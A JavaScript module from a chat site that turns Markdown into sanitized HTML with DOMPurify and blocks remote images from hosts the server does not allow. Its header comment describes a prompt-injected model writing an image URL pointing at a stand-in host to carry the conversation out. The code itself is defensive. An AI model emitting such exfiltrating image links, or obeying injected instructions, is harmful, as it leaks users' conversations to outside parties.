// Markdown to safe HTML: marked renders, DOMPurify removes anything that could run script or inject markup
// (script and style elements, event handler attributes, javascript: URLs...). Nothing the model or a user
// writes reaches the page unsanitised.
//
// Remote images are not loaded unless their host is one the server allows (CHATSITE_IMAGE_HOSTS): an image URL
// in a reply (`![x](https://elsewhere.example/p.png?the-conversation...)`), perhaps written by a prompt-injected
// model, would send whatever it carries to that host as soon as the page showed it. Such an image is shown as a
// link the person can choose to open ("image: <alt> (host)"). The page's CSP blocks those hosts as well.
import { marked } from "../vendor/marked/marked.esm.js";
import DOMPurify from "../vendor/dompurify/purify.es.mjs";
import { enhance, mathExtensions, rememberSource } from "./render.js";

marked.setOptions({ gfm: true, breaks: true });
// Math ($...$, $$...$$, \(...\), \[...\]) is kept away from Markdown and typeset by KaTeX after sanitising.
marked.use({ extensions: mathExtensions });

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  // Links open in a new tab without giving that tab a handle on this one.
  if (node.tagName === "A" && node.hasAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
});

const SANITIZE = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed",
    // Elements that load media from their own URLs; Markdown never makes them.
    "picture", "source", "video", "audio", "track",
  ],
  // srcset, background and poster load images past the checks below; ping reports clicks to another URL.
  FORBID_ATTR: ["style", "srcset", "background", "poster", "ping"],
};  // prettier-ignore

/** Hosts whose images may load: `host`, `host:port` or `*.domain` (lower case), as the server's setting says. */
let imageHosts = [];

/**
 * Allow images from these hosts (the server's CHATSITE_IMAGE_HOSTS, from the page's boot data).
 * @param {string[]} hosts
 */
export function allowImageHosts(hosts) {
  imageHosts = Array.isArray(hosts) ? hosts.filter((h) => typeof h === "string").map((h) => h.toLowerCase()) : [];
}

/**
 * Whether an image URL may be loaded: this site's own, inline (data:, blob:), or HTTPS from an allowed host.
 * @param {URL} url
 */
function imageAllowed(url) {
  if (url.protocol === "data:" || url.protocol === "blob:") return true;
  if (url.origin === window.location.origin) return true;
  if (url.protocol !== "https:") return false;
  // `host` leaves out the default port, as a CSP source without a port means the default one.
  return imageHosts.some((allowed) =>
    allowed.startsWith("*.")
      ? url.host.endsWith(allowed.slice(1)) && url.host.length > allowed.length - 1
      : url.host === allowed,
  );
}

/**
 * The stand-in for an image that may not load: a link to it, "image: <alt> (host)"; plain text when the URL
 * is not http(s).
 * @param {HTMLImageElement} image
 * @param {URL | null} url
 */
function imageLink(image, url) {
  const alt = (image.getAttribute("alt") || "").trim();
  const where = url ? url.host : "unknown address";
  const label = alt ? `image: ${alt} (${where})` : `image (${where})`;
  if (!url || (url.protocol !== "https:" && url.protocol !== "http:")) {
    const text = image.ownerDocument.createElement("span");
    text.className = "remote-image";
    text.textContent = label;
    return text;
  }
  const link = image.ownerDocument.createElement("a");
  link.className = "remote-image";
  link.href = url.href;
  link.target = "_blank";
  link.rel = "noopener noreferrer nofollow";
  link.title = url.href;
  link.textContent = label;
  return link;
}

/**
 * Render Markdown `text` into `element`, sanitised, with remote images from hosts not allowed shown as links,
 * code highlighted (with copy buttons) and math typeset (render.js).
 * @param {HTMLElement} element
 * @param {string} text
 */
export function renderMarkdown(element, text) {
  const html = DOMPurify.sanitize(marked.parse(text, { async: false }), SANITIZE);
  // A template's content is inert (nothing in it loads): images are checked there, before the page has them.
  const template = document.createElement("template");
  template.innerHTML = html;
  for (const image of template.content.querySelectorAll("img")) {
    const src = image.getAttribute("src");
    if (src === null) continue;
    let url = null;
    try {
      url = new URL(src, window.location.href);
    } catch {
      url = null;
    }
    if (url === null || !imageAllowed(url)) image.replaceWith(imageLink(image, url));
  }
  enhance(template.content);
  rememberSource(element, text);
  element.replaceChildren(template.content);
}
